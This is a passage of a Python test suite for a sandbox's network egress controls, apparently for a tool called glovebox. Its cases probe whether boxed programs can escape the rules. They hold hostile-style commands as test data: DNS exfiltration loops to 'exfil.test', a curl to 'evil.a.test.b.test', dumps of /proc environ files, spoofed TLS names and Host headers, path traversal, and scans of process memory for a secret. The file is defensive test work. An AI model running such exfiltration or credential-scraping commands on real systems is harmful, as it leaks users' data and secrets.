#!/usr/bin/env python3
"""What a box reaches of the world, and what not, with real programs in real boxes.

usage: egress_test.py root|user [WORD...]    (WORD: only cases with it in their name)

The host and the world behind it are egress_world.py, which takes root; the word says who glovebox
runs as. Whether something got out is asked of the world: of its servers, and of the cable.
"""
import contextlib
import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import tempfile
import time
import traceback

sys.path.insert(0, str(pathlib.Path(__file__).parent))
import egress_world  # noqa: E402
from egress_world import (A, A6, B, HOST, INTERNAL, METADATA, PROXY, PROXY_PORT,  # noqa: E402
                          PROXY_TLS_PORT, PROXY_USER, World)
from run_harness import AS_USER, USER_ID, reachable_program  # noqa: E402
from worker_harness import PROGRAM, Plane, Worker, cmdline, descendants, fresh_folder, remove_folders, wait_for  # noqa: E402

CASES = []
RULES = """
[[profile.net.egress]]
host = "a.test"
port = 443
whole_host = true
why = "the test"
[[profile.net.egress]]
host = "*.a.test"
port = "7000-7002"
mode = "raw"
whole_host = true
why = "the test"
[[profile.net.egress]]
host = "a.test"
port = 80
allow = ["GET /open/**", "POST /open/**", "GET /redirect/**"]
"""
RAW = """
[[profile.net.egress]]
host = "{host}"
port = {port}
mode = "raw"
whole_host = true
why = "the test"
{more}
"""


def policy(rules=RULES, background="kill", more=""):
    return f"""glovebox = 1
name = "egress-test"
[[bind]]
tools = {{ "*" = "net" }}
[profile.net]
why = "the test"
background = "{background}"
{more}
mount = [ {{ at = "@workspace", mode = "rw", exec = true }}, {{ at = "@tmp", mode = "tmp", exec = true }} ]
{rules}"""


def raw(host, port, more=""):
    return RAW.format(host=host, port=port, more=more)


def case(ids=""):
    """`ids`: of the attacks that it makes."""
    def add(function):
        CASES.append((f"{ids} {function.__name__.replace('_', ' ')}".strip(), function))
        return function
    return add


class Box:
    """`glovebox exec` with one policy, in one workspace; what it did and what is on record of it."""

    def __init__(self, world, user, text):
        self.world, self.user = world, user
        self.folder = pathlib.Path(tempfile.mkdtemp(prefix="glovebox-test-egress-"))
        self.folder.chmod(0o755)
        self.work, self.state = self.folder / "work", self.folder / "state"
        self.work.mkdir()
        self.policy = self.folder / "net.toml"
        self.policy.write_text(text)
        self.policy.chmod(0o644)
        shutil.copy(world.authority, self.work / "ca.pem")
        # A box never runs as root: its id is the workspace's.
        for path in (self.folder, self.work, self.policy) if user == "user" else (self.work,):
            os.chown(path, USER_ID, USER_ID)
        self.environment = dict(os.environ)
        self.program = [*AS_USER, reachable_program()] if user == "user" else [PROGRAM]

    def start(self, *words, **options):
        return subprocess.Popen(
            [*self.program, "exec", "--policy", self.policy.name, "--state", str(self.state), "--workdir",
             str(self.work), "--", *words], cwd=self.folder, env=options.pop("env", self.environment), stdin=subprocess.DEVNULL,
            stdout=subprocess.PIPE, stderr=subprocess.PIPE, text=True, **options)

    def run(self, *words, seconds=60, **options):
        process = self.start(*words, **options)
        try:
            self.out, self.err = process.communicate(timeout=seconds)
        except subprocess.TimeoutExpired:
            process.kill()
            self.out, self.err = process.communicate()
            raise AssertionError(f"{words} hangs: {self.out[-500:]} {self.err[-500:]}") from None
        self.code = process.returncode
        return self

    def shell(self, script, **options):
        return self.run("/bin/bash", "-c", script, **options)

    def expect(self, code=0, out=None, err=None):
        told = f"exit {self.code}\nout: {self.out[-2000:]}\nerr: {self.err[-2000:]}"
        assert code is None or self.code == code, f"wanted exit {code}\n{told}"
        assert out is None or out in self.out, f"{out!r} is not in stdout\n{told}"
        assert err is None or err in self.err, f"{err!r} is not in stderr\n{told}"
        return self

    def records(self, kind):
        return [record for line in sorted((self.state / "audit").glob("log*"))
                for record in map(json.loads, line.read_text().splitlines()) if record["k"] == kind]

    def denied(self, **wanted):
        """One record of what was refused, with these members; `why` may be a part."""
        return self.one("net.deny", wanted)

    def opened(self, **wanted):
        return self.one("net.open", wanted)

    def one(self, kind, wanted):
        records = self.records(kind)
        for record in records:
            if all(str(value) in str(record.get(key, "")) if key == "why" else record.get(key) == value
                   for key, value in wanted.items()):
                return record
        raise AssertionError(f"no {kind} with {wanted} among {json.dumps(records, indent=1)}\n{self.err}")

    def verified(self):
        done = subprocess.run([PROGRAM, "audit", "verify", str(self.state / "audit")], capture_output=True,
                              text=True)
        assert done.returncode == 0, done.stdout + done.stderr

    def remove(self):
        shutil.rmtree(self.folder, ignore_errors=True)


class Given:
    """What a case gets: the world, and boxes that go with it."""

    def __init__(self, world, user):
        self.world, self.user, self.boxes = world, user, []

    def box(self, text=None, authorities=None):
        """`authorities`: whom the host believes, beside its own choice."""
        box = Box(self.world, self.user, text or policy())
        if authorities:
            box.environment["SSL_CERT_FILE"] = str(authorities)
        self.boxes.append(box)
        return box

    def nothing_left(self, *but):
        """Of all that left the host since the last look, nothing but this; DNS stays on the host."""
        packets = {(protocol, to, port) for protocol, to, port in self.world.packets()} - set(but)
        assert not packets, f"got out: {packets}"

    def end(self):
        for box in self.boxes:
            box.remove()


def tcp(address, port):
    return ("tcp", address, port)


# --- what is refused

@case("F55 F02")
def no_rule_no_network(given):
    box = given.box(policy(rules=""))
    box.shell("getent hosts a.test; exec 3<>/dev/tcp/93.184.216.34/443").expect(None, err="unreachable")
    given.nothing_left()


@case("F10")
def another_name_does_not_exist(given):
    box = given.box().shell("curl -sS -m 9 https://b.test/ https://evil.a.test.b.test/").expect(6)
    box.denied(host="b.test", l7="dns", dec="deny", why="no egress rule names this host and port")
    assert box.denied(host="b.test")["tu"] == box.records("tool.intent")[0]["tu"]
    given.nothing_left()
    assert not given.world.names.asked


@case("F07 F08")
def data_in_a_name_stays_here(given):
    box = given.box().shell("for i in $(seq 50); do getent hosts $(head -c 20 /dev/urandom | od -An -tx1 | "
                            "tr -d ' \\n').exfil.test; done; dig +tries=1 +time=2 TXT x.exfil.test @8.8.8.8; "
                            "dig +tcp +tries=1 +time=2 y.exfil.test @1.1.1.1; "
                            "dig +tries=1 +time=2 TXT $(hostname).a.test")
    box.expect(out="status: NXDOMAIN").expect(out="status: REFUSED")
    given.nothing_left()
    assert not given.world.names.asked


@case("F01 F04 F13 F17")
def an_address_without_a_rule_is_reset(given):
    box = given.box().shell(f"for to in {A}:80 {A}:443 [{A6}]:443 1572395042:80 0135.0270.0330.042:443; do "
                            "curl -sS -m 9 http://$to/open/x; done; true")
    box.denied(host=A, port=443, l7="tcp", why="no egress rule names this host and port")
    box.denied(host=A6, port=443)
    box.denied(host=A, port=80)
    assert {record["host"] for record in box.records("net.deny")} == {A, A6}
    given.nothing_left()


@case("F23")
def a_port_without_a_rule_is_refused(given):
    box = given.box().shell("curl -sS -m 9 telnet://a.test:22 < /dev/null; curl -sS -m 9 http://a.test:8080/").expect(
        7, err="Couldn't connect")
    box.denied(host="a.test", port=22)
    given.nothing_left()


@case("F02 F05 D05")
def nothing_but_tcp_and_dns(given):
    script = """
import socket
def tried(what, act):
    try:
        act()
        print("through", what)
    except OSError as error:
        print("refused", what, error.errno)
for port in (443, 123, 4433):
    def udp():
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(1)
        s.connect(("93.184.216.34", port))
        s.send(b"x")
        s.recv(9)
    tried(f"udp {port}", udp)
for name, family, kind, protocol in (("raw", 2, 3, 255), ("icmp", 2, 3, 1), ("ping", 2, 2, 1), ("sctp", 2, 1, 132),
                                     ("mptcp", 2, 1, 262), ("udplite", 2, 2, 136), ("packet", 17, 3, 3),
                                     ("vsock", 40, 1, 0), ("dccp", 2, 6, 33), ("gre", 2, 3, 47)):
    tried(name, lambda: socket.socket(family, kind, protocol).sendto(b"x" * 16, ("93.184.216.34", 443)))
s = socket.socket()
tried("bindtodevice", lambda: (s.setsockopt(1, 25, b"h0\\0"), s.connect(("93.184.216.34", 443)), s.send(b"x"), s.recv(1)))
"""
    box = given.box()
    (box.work / "try.py").write_text(script)
    box.run("/usr/bin/python3", "/workspace/try.py").expect()
    assert "through" not in box.out, box.out
    assert box.out.count("refused") == 14, box.out
    box.shell("ip route del local default dev lo table local; ip route add default via 127.0.0.1; "
              "ip link add v0 type dummy; ip addr add 10.0.0.9/8 dev lo; ip link set lo down; true")
    assert box.err.count("not permitted") == 5, box.err
    given.nothing_left()


@case("F25 F26")
def another_name_in_tls_is_refused(given):
    box = given.box().shell(
        "for name in '-servername b.test' '-servername www.a.test' -noservername '-servername 93.184.216.34'; do "
        "openssl s_client -connect a.test:443 $name -brief < /dev/null; done; "
        "echo plain | timeout 5 openssl s_client -connect a.test:443 -servername a.test -CAfile /workspace/ca.pem "
        "-verify_return_error -brief").expect(None, err="CONNECTION ESTABLISHED")
    assert box.err.count("ESTABLISHED") == 1, box.err
    for name in ("b.test", "www.a.test"):
        box.denied(host="a.test", l7="sni", rule="net.toml:11", why=f"TLS asks for {name}, which is not the name")
    box.denied(host="a.test", l7="sni", why="TLS asks for no name")
    assert given.world.came() == [(A, 443)]


@case("F29")
def what_is_no_tls_is_not_carried(given):
    box = given.box().shell("printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\n\\r\\n' | nc -w 5 a.test 443; "
                            "printf 'SSH-2.0-x\\r\\n' | nc -w 5 a.test 443; true")
    box.denied(host="a.test", l7="sni", why="mode sni: ")
    given.nothing_left()


@case("F13 F16")
def names_that_lead_inwards_are_refused(given):
    names = ("internal", "metadata", "own", "loop", "mixed", "mapped")
    box = given.box(policy("".join(raw(f"{name}.test", 80) for name in names)))
    box.shell("".join(f"curl -sS -m 9 http://{name}.test/; " for name in names)).expect(None)
    for name, address in (("internal", INTERNAL), ("metadata", METADATA), ("own", HOST), ("loop", "127.0.0.1"),
                          ("mixed", INTERNAL), ("mapped", INTERNAL)):
        assert address in box.denied(host=f"{name}.test", l7="raw")["why"]
    given.nothing_left()


@case("F13")
def private_is_given_only_where_a_rule_says_so(given):
    box = given.box(policy(raw("internal.test", 80, "private = true") + raw("metadata.test", 80, "private = true")))
    box.shell("curl -sS -m 9 http://internal.test/yes; curl -sS -m 9 http://metadata.test/").expect(None, out="/yes")
    box.denied(host="metadata.test", why="is a metadata service")
    assert given.world.came() == [(INTERNAL, 80)]


@case("F14")
def a_name_that_changes_is_judged_each_time(given):
    given.world.names.turns["a.test"] = [[A], [A], ["127.0.0.1"]]
    box = given.box(policy(raw("a.test", 80)))
    box.shell("curl -sS -m 9 http://a.test/one > /dev/null; for i in 1 2 3; do curl -sS -m 9 http://a.test/two; done; true")
    box.opened(host="a.test", addr=A)
    box.denied(host="a.test", why="127.0.0.1 is not a public address")
    del given.world.names.turns["a.test"]
    assert set(given.world.came()) == {(A, 80)}


@case("F40")
def a_redirect_is_a_new_decision(given):
    box = given.box().shell(f"curl -sS -m 9 -L http://a.test/redirect/http://{METADATA}/latest; "
                            "curl -sS -m 9 -L http://a.test/redirect/http://b.test/; true")
    box.denied(host=METADATA)
    box.denied(host="b.test")
    assert set(given.world.came()) == {(A, 80)}


@case("F22 F28 F34 F37")
def requests_are_decided_one_by_one(given):
    box = given.box().shell("""
ask() { curl -sS -m 9 -o /dev/null -w '%{http_code} ' "$@"; }
ask http://a.test/open/x; ask http://a.test/closed; ask -X DELETE http://a.test/open/x
ask -H 'Host: b.test' http://a.test/open/x; ask --path-as-is http://a.test/open/../closed
ask http://a.test/open/%2e%2e/closed; ask http://a.test/open/a%2fb; ask -X TRACE http://a.test/open/x
ask -d data http://a.test/open/x
curl -sS -m 9 http://a.test/closed""")
    box.expect(out="200 403 403 421 400 400 400 405 200 ").expect(out="denied by policy: ").expect(out="net.toml:")
    box.denied(host="a.test", l7="http", meth="GET", path="/closed")
    box.denied(host="a.test", l7="http", meth="DELETE", path="/open/x")
    assert box.opened(meth="POST", path="/open/x", status=200, addr=A)["up"] > 0
    asked = [json.loads(line) for line in given.world.lines("asked")]
    assert {(method, host) for method, host, _ in asked} == {("GET", "a.test"), ("POST", "a.test")}, asked


# --- what is allowed

@case()
def tls_by_name_reaches_its_origin(given):
    box = given.box().shell("curl -sS -m 20 --cacert /workspace/ca.pem https://a.test/hello; "
                            "env -i HTTPS_PROXY=http://127.0.0.1:9 curl -sS -m 9 --cacert /workspace/ca.pem https://a.test/; "
                            "echo $?").expect(out='"path": "/hello"').expect(out="7\n")
    record = box.opened(host="a.test", addr=A, port=443, l7="sni", rule="net.toml:11", dec="allow")
    assert record["up"] > 300 and record["down"] > 500, record
    intent, result = box.records("tool.intent")[0], box.records("tool.result")[0]
    assert record["tu"] == intent["tu"] and record["sid"] == intent["sid"] and record["pol"] == intent["pol"]
    order = [entry["k"] for line in sorted((box.state / "audit").glob("log*"))
             for entry in map(json.loads, line.read_text().splitlines())]
    assert order.index("tool.intent") < order.index("net.open") < order.index("tool.result"), order
    assert result["exit"] == 0
    box.verified()


@case()
def any_protocol_by_name(given):
    box = given.box().shell("exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo \"$line\"; "
                            "printf 'ping\\n' >&3; read -r line <&3; echo \"$line\"")
    box.expect(out="220 world ready").expect(out="ping\n")
    assert box.opened(host="www.a.test", port=7001, l7="raw")["up"] == 5


@case()
def every_way_to_ask_for_a_name(given):
    box = given.box().shell("getent hosts www.a.test; getent ahosts www.a.test; getent ahostsv4 www.a.test; "
                            "getent ahostsv6 www.a.test; dig +short www.a.test; dig +tcp +short www.a.test @1.1.1.1; "
                            "dig +short AAAA www.a.test @2606:4700:4700::1111; "
                            "python3 -c 'import socket; print(socket.gethostbyname(\"www.a.test\"), "
                            "socket.getaddrinfo(\"www.a.test\", 1, 0, 0, 0, socket.AI_ADDRCONFIG)[0][4][0])'; "
                            "node -e 'require(\"dns\").lookup(\"www.a.test\", {family: 4}, (e, a) => console.log(e, a))'; "
                            "curl -4 -sS -m 5 telnet://www.a.test:7001 < /dev/null").expect(None, out="null 198.18.0.2")
    assert box.out.count("198.18.0.2") >= 7 and box.out.count("fd67:6c6f:7665::2") >= 4, box.out
    assert not given.world.names.asked or set(given.world.names.asked) == {"www.a.test"}


@case()
def ipv6_as_well(given):
    box = given.box(policy(raw("six.test", 80) + raw("2606:4700:10::/48", 7000)))
    box.shell(f"curl -sS -6 -m 9 http://six.test/six; curl -sS -4 -m 9 http://six.test/four; "
              f"echo hello | nc -w 2 -N {A6} 7000").expect(out="/six").expect(out="/four").expect(out="hello")
    assert set(given.world.came()) == {(A6, 80), (A6, 7000)}


@case()
def a_program_that_knows_no_proxy_and_no_resolver(given):
    box = given.box()
    (box.work / "plain.c").write_text(r"""
#include <arpa/inet.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
/* Asks a name server of its own choice, as static programs do. */
int main(void) {
  static const unsigned char question[] = "\0\7\1\0\0\1\0\0\0\0\0\0\3www\1a\4test\0\0\1\0\1";
  struct sockaddr_in to = {.sin_family = AF_INET, .sin_port = htons(53)};
  inet_pton(AF_INET, "9.9.9.9", &to.sin_addr);
  int dns = socket(AF_INET, SOCK_DGRAM, 0);
  sendto(dns, question, sizeof question - 1, 0, (struct sockaddr*)&to, sizeof to);
  unsigned char answer[512];
  ssize_t size = recv(dns, answer, sizeof answer, 0);
  to.sin_port = htons(7001);
  memcpy(&to.sin_addr, answer + size - 4, 4);
  int tcp = socket(AF_INET, SOCK_STREAM, 0);
  if (connect(tcp, (struct sockaddr*)&to, sizeof to) != 0) return 1;
  char line[64] = {0};
  if (read(tcp, line, sizeof line - 1) < 0) return 2;
  printf("%s %s", inet_ntoa(to.sin_addr), line);
  return 0;
}
""")
    subprocess.run(["gcc", "-static", "-O1", "-o", str(box.work / "plain"), str(box.work / "plain.c")], check=True)
    box.run("/workspace/plain").expect(out="198.18.").expect(out="220 world ready")
    box.opened(host="www.a.test", port=7001)


@case()
def a_big_transfer_is_whole(given):
    box = given.box(policy(raw("a.test", 80)))
    box.shell("curl -sS -m 50 http://a.test/bytes/200000000 | sha256sum; head -c 200000000 /dev/zero | tr '\\0' x | sha256sum")
    sums = box.out.split()
    assert sums[0] == sums[2], box.out + box.err
    assert box.opened(host="a.test")["down"] > 200_000_000


@case("F11")
def the_box_keeps_its_own_loopback(given):
    box = given.box().shell("""
python3 -m http.server 8000 --bind 127.0.0.1 > /dev/null 2>&1 &
for i in $(seq 50); do curl -sS -m 5 -o /dev/null http://127.0.0.1:8000/ 2> /dev/null && break; sleep 0.1; done
curl -sS -m 5 http://localhost:8000/ca.pem | head -1
curl -sS -m 5 https://localhost/ ; curl -sS -m 5 http://127.0.0.1:80/""")
    box.expect(None, out="BEGIN CERTIFICATE")
    given.nothing_left()


@case()
def ten_thousand_names(given):
    box = given.box(policy("""
[[profile.net.egress]]
host = "*.many.test"
port = 443
whole_host = true
why = "the test"
"""))
    box.run("/usr/bin/python3", "-c", """
import socket, struct
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5); s.connect(("198.18.0.1", 53))
seen, slow = set(), 0
import time
for i in range(10000):
    name = b"n%d" % i
    question = struct.pack(">HHHHHH", i, 256, 1, 0, 0, 0) + bytes([len(name)]) + name + b"\\4many\\4test\\0\\0\\1\\0\\1"
    while True:
        s.send(question)
        try:
            answer = s.recv(512)
            break
        except TimeoutError:
            slow += 1
    seen.add(answer[-4:])
print(len(seen), "names")
""", seconds=120).expect(out="10000 names")
    given.nothing_left()


# --- what is seen, and what is added on the way

INSPECT = """
[[profile.net.egress]]
host = "a.test"
port = 443
mode = "inspect"
allow = ["GET /open/**", "POST /open/**"]
{more}
"""
SECRET = """
[secret.token]
from = "file:{path}"
only = ["{only}"]
"""
CANARY = "canary-2b1f9c-secret"


def inspecting(given, more="", rules=""):
    return given.box(policy(INSPECT.format(more=more) + rules), authorities=given.world.authority)


def with_secret(given, only="a.test:443"):
    folder = pathlib.Path(fresh_folder())
    folder.chmod(0o755)
    secret = folder / "token"
    secret.write_text(CANARY + "\n")
    secret.chmod(0o600)
    if given.user == "user":
        os.chown(secret, USER_ID, USER_ID)
    return inspecting(given, 'inject = "token"', SECRET.format(path=secret, only=only))


@case("F28")
def tls_is_read_and_decided_request_by_request(given):
    box = inspecting(given).shell("""
ask() { curl -sS -m 9 -o /dev/null -w '%{http_code} ' "$@"; }
ask https://a.test/open/x; ask https://a.test/closed; ask -X DELETE https://a.test/open/x
ask -H 'Host: b.test' https://a.test/open/x; ask -d data https://a.test/open/y
curl -sS -m 9 https://a.test/closed""")
    box.expect(out="200 403 403 421 200 denied by policy: ")
    record = box.opened(meth="GET", path="/open/x", l7="inspect", status=200, addr=A, port=443)
    assert record["rule"].startswith("net.toml:"), record
    box.denied(host="a.test", l7="inspect", meth="GET", path="/closed")
    asked = [json.loads(line) for line in given.world.lines("asked")]
    assert [(method, path) for method, _, path in asked] == [("GET", "/open/x"), ("POST", "/open/y")], asked


@case()
def programs_of_every_kind_believe_the_authority(given):
    box = inspecting(given)
    box.shell("""
export HOME=/tmp
curl -sS -m 9 -o /dev/null https://a.test/open/curl && echo curl
python3 -c 'import urllib.request as u; u.urlopen("https://a.test/open/urllib", timeout=9).read(); print("urllib")'
python3 -c 'import requests; requests.get("https://a.test/open/requests", timeout=9).raise_for_status(); print("requests")'
node -e 'require("https").get("https://a.test/open/node", r => { r.resume(); r.on("end", () => console.log("node")) })'
git ls-remote https://a.test/open/git
openssl s_client -connect a.test:443 -servername a.test -verify_return_error -brief < /dev/null 2>&1 | grep -q 'Verification: OK' && echo openssl
""", seconds=120)
    for program in ("curl", "urllib", "requests", "node", "openssl"):
        assert program in box.out.split(), (program, box.out, box.err)
    # What is there is no repository; that git asked is what counts.
    assert any("/open/git/info/refs" in line for line in given.world.lines("asked")), box.err


@case("F52 F53")
def an_origin_that_cannot_be_believed_is_not(given):
    """egress verifies, whatever the box does about it."""
    box = given.box(policy(INSPECT.format(more="")))  # the host does not know the world's authority
    box.shell("curl -sS -k -m 9 -o /dev/null -w '%{http_code}' https://a.test/open/x").expect(out="502")
    assert "certificate" in box.opened(host="a.test", l7="inspect", status=502)["why"]


@case()
def a_name_that_the_box_does_not_ask_for_in_tls(given):
    box = inspecting(given).shell("openssl s_client -connect a.test:443 -servername b.test -brief < /dev/null; "
                                  "openssl s_client -connect a.test:443 -noservername -brief < /dev/null; true")
    box.denied(host="a.test", l7="inspect", why="TLS with the box")
    given.nothing_left()


@case("F49 F50 G17")
def a_credential_that_the_box_never_has(given):
    box = with_secret(given)
    script = """
curl -sS -m 9 https://a.test/open/plain > plain
curl -sS -m 9 -H 'Authorization: Bearer mine' https://a.test/open/own > own
curl -sS -m 9 -H 'X-Key: glovebox-secret-token' https://a.test/open/placed > placed
curl -sS -m 9 "https://a.test/open/glovebox-secret-token?q=glovebox-secret-token" > path
curl -sS -m 9 -d 'glovebox-secret-token' https://a.test/open/body > body
env > environment; cat /proc/*/environ > environ 2> /dev/null
cat plain own placed path body"""
    box.shell(script).expect()
    seen = [json.loads(line) for line in given.world.lines("headers")]
    by_path = {path: headers for path, headers in seen}
    for path in ("/open/plain", "/open/own", "/open/placed", "/open/body"):
        assert by_path[path]["authorization"] == f"Bearer {CANARY}", (path, by_path[path])
    assert by_path["/open/placed"]["x-key"] == CANARY
    assert "/open/glovebox-secret-token?q=glovebox-secret-token" in by_path
    # What the origin gives back of it does not come through, and nothing of the box has it.
    assert CANARY not in box.out + box.err
    for file in box.work.iterdir():
        assert CANARY.encode() not in file.read_bytes(), file
    for line in sorted((box.state / "audit").glob("log*")):
        assert CANARY not in line.read_text()
    assert box.opened(path="/open/plain")["cred"] == "token"
    assert "placeholder" in box.opened(path="/open/glovebox-secret-token")["remark"]
    box.verified()


@case("F49")
def a_credential_goes_to_its_endpoint_only(given):
    box = with_secret(given)
    text = box.policy.read_text()
    box.policy.write_text(text.replace('only = ["a.test:443"]', 'only = ["b.test:443"]'))
    checked = subprocess.run([*box.program, "policy", "check", "net.toml"], cwd=box.folder, capture_output=True, text=True)
    assert checked.returncode == 1 and "GB0103" in checked.stdout + checked.stderr, checked
    box.shell("curl -sS -m 9 https://a.test/open/x")
    box.denied(host="a.test", l7="inspect", why="secret token is not bound to this endpoint")
    assert not given.world.came()
    box.policy.write_text(text + raw("b.test", 80))
    box.shell("curl -sS -m 9 -H 'X-Key: glovebox-secret-token' http://b.test/elsewhere").expect()
    assert CANARY not in "".join(given.world.lines("headers"))


@case("F49")
def a_credential_goes_with_the_requests_of_its_rule_only(given):
    box = with_secret(given)
    text = box.policy.read_text()
    box.policy.write_text(text.replace('allow = ["GET /open/**", "POST /open/**"]', 'allow = ["GET /open/**"]')
                          + INSPECT.format(more="").replace('allow = ["GET /open/**", "POST /open/**"]',
                                                            'allow = ["POST /open/**"]'))
    box.shell("curl -sS -m 9 -o /dev/null https://a.test/open/with https://a.test/open/again -d x -X POST --next "
              "-sS -m 9 -o /dev/null https://a.test/open/get").expect()
    by_path = {path: headers for path, headers in map(json.loads, given.world.lines("headers"))}
    assert "authorization" not in by_path["/open/with"] and "authorization" not in by_path["/open/again"], by_path
    assert by_path["/open/get"]["authorization"] == f"Bearer {CANARY}", by_path
    assert box.opened(path="/open/get")["cred"] == "token" and "cred" not in box.opened(path="/open/with")


@case("F13")
def an_inner_address_is_refused_to_requests_too(given):
    rules = "".join(f'[[profile.net.egress]]\nhost = "internal.test"\nport = {port}\nmode = "{mode}"\n'
                    'allow = ["GET /**"]\n' for port, mode in ((80, "http"), (443, "inspect")))
    box = given.box(policy(rules), authorities=given.world.authority)
    box.shell("curl -sS -m 9 -w '%{http_code} ' http://internal.test/ https://internal.test/").expect(out="502")
    for mode in ("http", "inspect"):
        box.denied(host="internal.test", l7=mode, why=f"{INTERNAL} is not a public address")
    given.nothing_left()


@case()
def a_credential_that_is_not_there_stops_the_start(given):
    box = inspecting(given, 'inject = "token"', SECRET.format(path="/nonexistent/token", only="a.test:443"))
    box.shell("true").expect(78, err="secret token")


@case()
def nothing_of_the_memory_of_a_box_holds_the_credential(given):
    box = with_secret(given)
    process = box.start("/bin/bash", "-c", "curl -sS -m 9 https://a.test/open/x; touch up; until [ -e go ]; do sleep 0.05; done")
    wait_for("the request", lambda: (box.work / "up").exists())
    held = {}
    for pid in descendants(process.pid):
        name = cmdline(pid).split("\0")[0]
        with contextlib.suppress(OSError):
            held.setdefault(name if name.startswith("glovebox") else "guest", []).append(in_memory(pid, CANARY.encode()))
    (box.work / "go").touch()
    process.communicate(timeout=30)
    assert any(held["glovebox: egress"]), "the test sees nothing"
    holders = {name for name, found in held.items() if any(found)}
    assert held["guest"] and holders <= {"glovebox: egress", "glovebox"}, held


def in_memory(pid, needle):
    found = False
    with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as memory:
        for line in maps:
            first, last = (int(part, 16) for part in line.split()[0].split("-"))
            if not line.split()[1].startswith("r") or last - first > 1 << 28:
                continue
            with contextlib.suppress(OSError, ValueError, OverflowError):
                memory.seek(first)
                found = found or needle in memory.read(last - first)
    return found
# --- through the corporate proxy

INSPECTED = """
[[profile.net.egress]]
host = "b.test"
port = 443
mode = "inspect"
allow = ["GET /open/**"]
"""
EVERY_MODE = """
exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo "raw $line"
printf 'ping\\n' >&3; read -r line <&3; echo "raw $line"; exec 3>&-
curl -sS -m 20 --cacert /workspace/ca.pem https://a.test/sni; echo
curl -sS -m 20 http://a.test/open/http; echo
curl -sS -m 20 -o /dev/null -w 'closed %{http_code}\\n' http://a.test/closed
curl -sS -m 20 https://b.test/open/inspect; echo
curl -sS -m 20 --cacert /workspace/ca.pem https://a.test/bytes/3000000 | wc -c
head -c 400000 /dev/zero | tr '\\0' x | curl -sS -m 20 --data-binary @- http://a.test/open/up | grep -o x | wc -l"""


def proxied(given, proxy, **more):
    return {**os.environ, "HTTPS_PROXY": proxy, "HTTP_PROXY": proxy,
            "SSL_CERT_FILE": str(given.world.authority), **more}


def everything_goes_through(given, proxy, place, port):
    box = given.box(policy(RULES + INSPECTED)).shell(EVERY_MODE, env=proxied(given, proxy))
    box.expect(out="raw 220 world ready").expect(out="raw ping").expect(out='"path": "/sni"')
    box.expect(out='"path": "/open/http"').expect(out='"path": "/open/inspect"')
    box.expect(out="closed 403").expect(out="3000000\n40000")
    assert set(given.world.proxied()) == {("www.a.test:7001", 200), ("a.test:443", 200), ("a.test:80", 200),
                                          ("b.test:443", 200)}
    assert not {"a.test", "www.a.test", "b.test"} & set(given.world.names.asked), given.world.names.asked
    given.nothing_left(tcp(PROXY, port))
    for wanted in ({"l7": "raw", "host": "www.a.test"}, {"l7": "sni", "host": "a.test"},
                   {"l7": "http", "path": "/open/http", "status": 200},
                   {"l7": "inspect", "path": "/open/inspect", "status": 200}):
        record = box.opened(via=place, **wanted)
        assert "addr" not in record and "why" not in record, record
        assert record["down"] > 15, record
    assert max(record["down"] for record in box.records("net.open")) > 3_000_000
    assert box.opened(path="/open/up")["up"] > 400_000
    assert PROXY_USER not in box.out + box.err
    box.verified()


@case
def through_a_proxy_in_every_mode(given):
    everything_goes_through(given, f"http://{PROXY_USER}@{PROXY}:{PROXY_PORT}", f"{PROXY}:{PROXY_PORT}", PROXY_PORT)
    assert not given.world.names.asked


@case
def through_a_proxy_that_speaks_tls(given):
    everything_goes_through(given, f"https://{PROXY_USER}@proxy.test:{PROXY_TLS_PORT}",
                            f"proxy.test:{PROXY_TLS_PORT}", PROXY_TLS_PORT)


@case
def what_is_denied_never_reaches_the_proxy(given):
    box = given.box().shell(
              f"curl -sS -m 9 https://b.test/; curl -sS -m 9 http://{A}/open/x; "
              "curl -sS -m 9 http://a.test/closed; curl -sS -m 9 http://127.0.0.1:7000/; "
              "openssl s_client -connect a.test:443 -servername b.test -brief < /dev/null; true",
              env=proxied(given, f"http://{PROXY_USER}@{PROXY}:{PROXY_PORT}"))
    box.denied(host="b.test")
    box.denied(host=A)
    box.denied(host="a.test", path="/closed")
    given.nothing_left()
    assert not given.world.proxied()


@case
def a_proxy_that_refuses_the_credentials_is_told_of(given):
    box = given.box().shell("exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo \"got $line\"; "
                            "curl -sS -m 9 -o /dev/null -w '%{http_code}\\n' http://a.test/open/x; true",
                            env=proxied(given, f"http://user:another@{PROXY}:{PROXY_PORT}"))
    box.expect(out="502\n", err="the proxy refuses the credentials of egress (407)")
    assert "got 220" not in box.out, box.out
    for wanted in ({"l7": "raw"}, {"l7": "http"}):
        record = box.opened(via=f"{PROXY}:{PROXY_PORT}", why="the proxy asks for credentials (407)", **wanted)
        assert "addr" not in record, record
    assert not box.records("net.deny"), box.records("net.deny")
    assert "another" not in box.err + json.dumps(box.records("net.open"))
    assert {status for _, status in given.world.proxied()} == {407}
    given.nothing_left(tcp(PROXY, PROXY_PORT))


@case
def no_proxy_goes_directly(given):
    proxy = f"http://{PROXY_USER}@{PROXY}:{PROXY_PORT}"
    box = given.box(policy(raw("www.a.test", 7001) + raw("b.test", 80) + raw("internal.test", 80)))
    box.shell("curl -sS -m 9 http://b.test/through; curl -sS -m 9 http://internal.test/; "
              "exec 3<>/dev/tcp/www.a.test/7001; read -r line <&3; echo \"$line\"",
              env=proxied(given, proxy, NO_PROXY="a.test,internal.test"))
    box.expect(out="220 world ready").expect(out='"path": "/through"')
    assert "via" not in box.opened(host="www.a.test", addr=A)
    assert "addr" not in box.opened(host="b.test", via=f"{PROXY}:{PROXY_PORT}")
    assert INTERNAL in box.denied(host="internal.test")["why"]  # what is resolved here is judged here
    assert given.world.proxied() == [("b.test:80", 200)]
    given.nothing_left(tcp(PROXY, PROXY_PORT), tcp(A, 7001))


class Configured(Worker):
    """`glovebox run` with a file whose [egress] is the test's; who it runs as owns everything."""

    def __init__(self, given, plane, box, egress, word="user:old", authorities=""):
        self.folder = fresh_folder()
        self.state = self.folder + "/state"
        self.log_path = self.folder + "/worker.log"
        self.given = given
        # A program reads it with no more rights than its own; a file is refused if others can read it.
